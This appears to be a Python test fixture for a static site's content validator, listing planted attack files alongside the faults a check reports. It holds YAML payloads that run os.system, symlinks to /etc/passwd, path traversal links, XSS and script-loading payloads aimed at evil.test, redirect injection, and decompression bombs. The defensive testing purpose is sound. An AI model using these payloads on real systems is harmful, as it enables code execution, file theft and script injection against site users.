"""Attacks that a check tells by their own lines, all in one run: what is planted, and the fault that names it."""

from __future__ import annotations

import os
import socket
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ALONE = "briefings/2022/alone"
FIELDS = {
    "title": "A text",
    "summary": "It is hostile.",
    "date": "2022-05-03",
    "tags": "[courts]",
    "sources": "[{url: 'https://source.test/alone', title: A report, publisher: Source, lang: en}]",
}


def briefing(body: str = "Words stand here.", **fields: str) -> bytes:
    """A briefing's file, sound but for what is given; a field that is empty is left out."""
    lines = [f"{name}: {value}" for name, value in (FIELDS | fields).items() if value]
    return "\n".join(["---", *lines, "---", "", body, ""]).encode()


@dataclass(frozen=True)
class Told:
    """An attack: the files of the content that it consists of, or what plants it, and the fault that is told of it."""

    name: str
    files: dict[str, bytes]
    code: str
    at: str = ""
    plant: Callable[[Path], None] | None = None

    @property
    def path(self) -> str:
        """The file that the fault names."""
        return self.at or next(iter(self.files))

    def lay(self, content: Path) -> None:
        """Put it into a content folder."""
        for path, data in self.files.items():
            target = content / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
        if self.plant:
            self.plant(content)


def _text(name: str, code: str, body: str, **fields: str) -> Told:
    return Told(name, {f"briefings/2022/{name}/en.md": briefing(body, **fields)}, code)


def _field(name: str, code: str, **fields: str) -> Told:
    return _text(name, code, "Words.", **fields)


def _front(name: str, code: str, lines: str) -> Told:
    return Told(name, {f"briefings/2022/{name}/en.md": f"---\n{lines}\n---\n\nWords.\n".encode()}, code)


def _stray(path: str, data: bytes = b"raise SystemExit('SECRET')\n", code: str = "stray-file") -> Told:
    return Told(f"stray {path}", {path: data}, code)


def _picture(name: str, code: str, data: bytes, file: str = "a.png") -> Told:
    folder = f"briefings/2022/{name}"
    files = {f"{folder}/{file}": data, f"{folder}/en.md": briefing(f"![words]({file})")}
    return Told(name, files, code)


def _linked(name: str, path: str, to: str) -> Told:
    def plant(content: Path) -> None:
        (content / path).parent.mkdir(parents=True, exist_ok=True)
        (content / path).symlink_to(to)

    return Told(name, {}, "symbolic-link", path, plant)


def _pipe(content: Path) -> None:
    os.mkfifo(content / "briefings/2022/alone/az.md")


def _socket(content: Path) -> None:
    here = Path.cwd()
    os.chdir(content / "briefings/2022/alone")
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("b.png")
    finally:
        os.chdir(here)


def _terabyte(content: Path) -> None:
    with (content / "briefings/2022/alone/huge.png").open("wb") as file:
        file.truncate(10**12)


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, extra: bytes = b"", rows: bytes | None = None) -> bytes:
    """A PNG in grey, with chunks before its pixels."""
    pixels = zlib.compress(b"\0" * ((width + 1) * height)) if rows is None else rows
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


BOMB = zlib.compress(b"a" * 50_000_000)
LAUGHS = "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 40))])
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SOURCE = "[{url: '%s', title: A report, publisher: Source, lang: en}]"

RUNNING = [
    _field("yaml-object", "yaml-feature", title="!!python/object/apply:os.system ['touch SECRET']"),
    _field("yaml-name", "yaml-feature", title="!!python/name:os.system"),
    _field("yaml-include", "yaml-feature", title="!include /etc/passwd"),
    Told("yaml object in a vocabulary", {"places.yaml": b"baku: !!python/object/new:os.system [x]\n"}, "yaml-feature"),
    *map(_stray, ["conftest.py", "pelicanconf.py", "sitecustomize.py", "briefings/__init__.py", "plugins/builds.py"]),
    *map(_stray, ["Makefile", "pages/about/setup.py", "briefings/2022/alone/run.sh", "templates/base.html"]),
    _text("fence-options", "fence-options", "```{.python style=os}\nx\n```"),
]
READING_OUT = [
    _linked("a link to the password file", "briefings/2022/alone/ru.md", "/etc/passwd"),
    _linked("a link to a secret text", "briefings/2022/secret/en.md", "../../../../../secret/en.md"),
    _linked("a link to a secret picture", "briefings/2022/alone/secret.png", "../../../../../secret/picture.png"),
    _linked("a link to an endless device", "briefings/2022/alone/zero.png", "/dev/zero"),
    _linked("a link to the root", "briefings/2021", "/"),
    _linked("a link to itself", "briefings/2020", "2020"),
    _linked("a linked vocabulary", "briefings/tags.yaml", "../../../secret/en.md"),
    Told("a pipe", {}, "special-file", "briefings/2022/alone/az.md", _pipe),
    Told("a socket", {}, "special-file", "briefings/2022/alone/b.png", _socket),
    _text("link-out", "leaves-content", "[a](../../../../../secret/en.md)"),
    _text("link-out-encoded", "leaves-content", "[a](%2e%2e/%2e%2e/%2e%2e/%2e%2e/secret/en.md)"),
    _text("picture-out", "leaves-content", "![a](../../../../secret/picture.png)"),
    _text("picture-of-the-root", "missing-file", "![a](/etc/passwd)"),
    _text("file-link", "link-form", "[a](file:///etc/passwd)"),
    _field("image-out", "type", image="{file: ../../../../secret/picture.png, alt: a, credit: b}"),
    _field("translates-out", "type", translates="../../../../secret/en"),
]
NAMES = [
    *(
        Told(name, {f"{ALONE}/{file}": b"x"}, "file-name", f"{ALONE}/{shown}")
        for name, file, shown in (
            ("a line end in a name", "a\nb.md", "a\\x0ab.md"),
            ("an escape in a name", "\x1b[2J.md", "\\x1b[2J.md"),
            ("a name turned round", "\u202egnp.md", "\\u202egnp.md"),
            ("bytes for a name", "\udcff.md", "\\xff.md"),
        )
    ),
    Told("a command of CI for a name", {"::error ::SECRET.md": b"x"}, "stray-file"),
    _stray("-rf", b"x"),
    _stray("--output=SECRET", b"x"),
    _stray("briefings/2022/alone/x%2f..%2f..%2fx.png", b"x", "media-name"),
    _stray("briefings/2022/alone/x\\..\\x.png", b"x", "media-name"),
    _stray(f"briefings/2022/alone/{'a' * 200}.png", b"x", "media-name"),
    _stray("briefings/2022/dot./en.md", briefing(), "slug"),
    _stray("briefings/2022/space /en.md", briefing(), "slug"),
    _stray("briefings/2022/Alone/en.md", briefing(), "slug"),
    _stray(f"briefings/2022/{'a' * 240}/en.md", briefing(), "slug"),
    Told("twins", {f"briefings/2022/alone/{name}": png(4, 4) for name in ("w.png", "W.png")}, "case-twin"),
    _stray("briefings/2022/alone/a.svg", SVG),
    _stray("index.html", b"<script>alert(1)</script>"),
    _stray("pages/about/en.html", b"<script>alert(1)</script>"),
]
FORGING = [
    _stray("briefings/2022/tags/en.md", briefing(), "slug"),
    _stray("briefings/2022/search/en.md", briefing(), "slug"),
    _stray("briefings/2022/ru/en.md", briefing(), "slug"),
    _stray("briefings/2022/2023/en.md", briefing(), "slug"),
    Told("another's slug", {"briefings/2022/first/en.md": briefing()}, "doubled-slug", "briefings/2023/first/en.md"),
    _field("takes-an-address", "redirect-taken", redirect_from="[en/2023/first]"),
    _field("takes-a-listing", "redirect-taken", redirect_from="[en/tags/courts]"),
    _field("takes-a-page", "redirect-taken", redirect_from="[en/tags/courts/page/1]"),
    _field("climbs-out", "type", redirect_from="['../../secret']"),
    _field("many-folders-deep", "type", redirect_from=f"[{'a/' * 60}a]"),
    _field("a-rule-of-nginx", "type", redirect_from='["en/x; return 301 https://evil.test/"]'),
    _field("a-line-of-rules", "type", redirect_from='["en/x\\n/* https://evil.test/ 301"]'),
    Told("redirects to elsewhere", {"redirects.yaml": b"en/2020/x: https://evil.test/\n"}, "dead-redirect"),
    Told("addresses that climb out", {"permalinks.tsv": b"../secret/\tfirst\t2023-10-12\n"}, "table-line"),
    Told(
        "a number without end", {"publications.tsv": b"9" * 9_000 + b"\t2026-01-01\tnone\tx\tx\tx\tx\n"}, "table-line"
    ),
    Told("revisions that say nothing", {"revisions.tsv": b"../x\ten\t1\t2023-10-12\tx\tfirst\t0\n"}, "table-line"),
    _text("an-id-of-the-page", "id", '<b id="Main">x</b>'),
    _text("two-ids", "doubled-id", '<b id="a">x</b> <b id="a">y</b>'),
    _text("turned-words", "invisible-character", "A \u202erevresed\u202c word."),
    _text("letters-of-two-scripts", "mixed-script", "A p\u0430ypal link."),
]
SCRIPT = [
    _text("script", "html", "<script>alert(1)</script>"),
    _text("script-in-capitals", "html", "<ScRiPt/src=//evil.test>"),
    _text("handler", "html", "<b onclick=alert(1)>x</b>"),
    _text("handler-after-a-slash", "html", "<b/onclick=alert(1)>x</b>"),
    _text("handler-by-markdown", "html", "*x*{: onclick=alert(1) }"),
    _text("style-attribute", "html", '<p style="background:url(//evil.test)">x</p>'),
    *(
        _text(tag, "html", f"<{tag} src=//evil.test/ href=//evil.test/ data=//evil.test/>x</{tag}>")
        for tag in "style iframe svg math form object embed base link meta template noscript video portal".split()
    ),
    _text("link-form", "link-form", "[a](javascript:alert(1))"),
    _text("link-script-in-capitals", "link-form", "[a](JaVaScRiPt:alert(1))"),
    _text("link-script-by-number", "link-form", '<a href="&#106;avascript:alert(1)">x</a>'),
    _text("link-script-with-a-tab", "link-form", '<a href="java&#9;script:alert(1)">x</a>'),
    _text("link-script-after-a-control", "link-form", '<a href="&#1;javascript:alert(1)">x</a>'),
    _text("link-vbscript", "link-form", "[a](vbscript:msgbox)"),
    _text("link-data", "link-form", "[a](data:text/html;base64,PHNjcmlwdD4=)"),
    _text("link-blob", "link-form", "[a](blob:https://evil.test/x)"),
    _text("leaves-content", "leaves-content", "![a](https://evil.test/pixel.png)"),
    _text("picture-elsewhere-without-a-scheme", "leaves-content", "![a](//evil.test/pixel.png)"),
    _field("source-script", "type", sources=SOURCE % "javascript:alert(1)"),
    _field("source-data", "type", sources=SOURCE % "data:text/html,x"),
    _field("source-without-a-scheme", "type", sources=SOURCE % "//evil.test/"),
]
SWELLING = [
    _front("yaml-laughs", "yaml-feature", LAUGHS),
    _front("yaml-in-itself", "yaml-feature", "a: &a [*a]"),
    _front("yaml-merges", "yaml-feature", "a: &a {b: c}\nd: {<<: *a}"),
    _front("yaml-deep", "yaml-feature", f"a: {'[' * 500}{']' * 500}"),
    _front("yaml-twice", "duplicate-key", "title: a\ntitle: b"),
    _front("yaml-control", "control-character", 'title: "\\0\\e[31m"'),
    _field("endless-title", "too-long-value", title="long " * 2000),
    _text("too-large", "too-large", "a " * 100_000),
    Told("nul", {"briefings/2022/nul-byte/en.md": briefing("a\0b")}, "control-character"),
    Told("sixteen bits", {"briefings/2022/sixteen/en.md": briefing().decode().encode("utf-16")}, "not-utf8"),
    Told("a terabyte", {}, "too-large", "briefings/2022/alone/huge.png", _terabyte),
    _picture("png-of-ten-gigapixels", "picture-size", png(100_000, 100_000, rows=b"")),
    _picture("png-of-41-megapixels", "picture-size", png(41_000, 1_000)),
    _picture("png-with-a-text-bomb", "picture-unreadable", png(4, 4, extra=chunk(b"zTXt", b"a\0\0" + BOMB))),
    _picture("png-with-a-profile-bomb", "picture-unreadable", png(4, 4, extra=chunk(b"iCCP", b"a\0\0" + BOMB))),
    _picture("png-broken-off", "picture-unreadable", png(400, 400)[:-40]),
    _picture("png-of-nothing", "picture-unreadable", b""),
    _picture("svg-called-png", "picture-type", SVG),
    _picture("gif-called-png", "picture-type", b"GIF89a\x01\0\x01\0\0\0\0;" + b"," * 5000),
    _picture("tiff-called-jpg", "picture-type", b"II*\0\x08\0\0\0\xff\xff" + b"\0" * 100, "a.jpg"),
    _picture("heic-called-jpg", "picture-type", b"\0\0\0\x18ftypheic" + b"\0" * 100, "a.jpg"),
    _picture("pdf-called-webp", "picture-type", b"%PDF-1.7\n", "a.webp"),
    _picture("page-called-jpg", "picture-unreadable", b"<html><script>alert(1)</script>", "a.jpg"),
]
GROUPS = {
    "run code": RUNNING,
    "read outside": READING_OUT,
    "hide in names": NAMES,
    "forge pages": FORGING,
    "put script in a page": SCRIPT,
    "exhaust by few bytes": SWELLING,
}
ATTACKS = [attack for group in GROUPS.values() for attack in group]
